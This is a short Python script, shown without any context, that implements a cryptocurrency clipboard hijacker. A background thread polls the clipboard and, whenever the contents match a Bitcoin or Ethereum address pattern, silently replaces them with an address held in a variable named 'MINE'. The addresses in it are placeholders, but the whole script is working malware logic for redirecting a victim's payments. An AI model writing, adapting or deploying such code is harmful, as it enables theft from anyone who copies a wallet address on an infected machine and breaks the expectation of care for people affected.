import re, time, threading
import pyperclip

MINE = {"btc": "bc1qexampleexampleexampleexampleexample0", "eth": "0x0000000000000000000000000000000000000000"}
FORMS = {"btc": r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", "eth": r"^0x[a-fA-F0-9]{40}$"}

def watch():
    while True:
        text = pyperclip.paste()
        for coin, form in FORMS.items():
            if re.match(form, text):
                pyperclip.copy(MINE[coin])
        time.sleep(0.5)

threading.Thread(target=watch, daemon=True).start()
